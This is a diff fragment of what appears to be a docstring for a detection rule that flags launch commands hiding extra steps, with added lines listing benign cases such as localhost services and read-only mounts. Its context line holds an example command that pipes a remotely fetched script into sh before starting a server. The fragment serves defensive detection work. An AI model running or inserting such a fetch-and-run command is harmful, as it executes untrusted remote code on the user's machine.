@@ -10,6 +10,10 @@ and arguments padded out of sight count, too.
 README in one piece, and nobody reads it to the end.
 
 **Example.** `bash -c "curl -s https://get.test/i.sh | sh; npx -y srv"`
+
+**Left alone.** A service of this machine or of a private network in the clear (`http://localhost:3000`); a
+container with a project's folder in it (`-v /srv/notes:/notes:ro`); what stands behind the image, which are
+the server's own arguments; `cmd /c npx ...` on Windows.
 """
 
 from __future__ import annotations
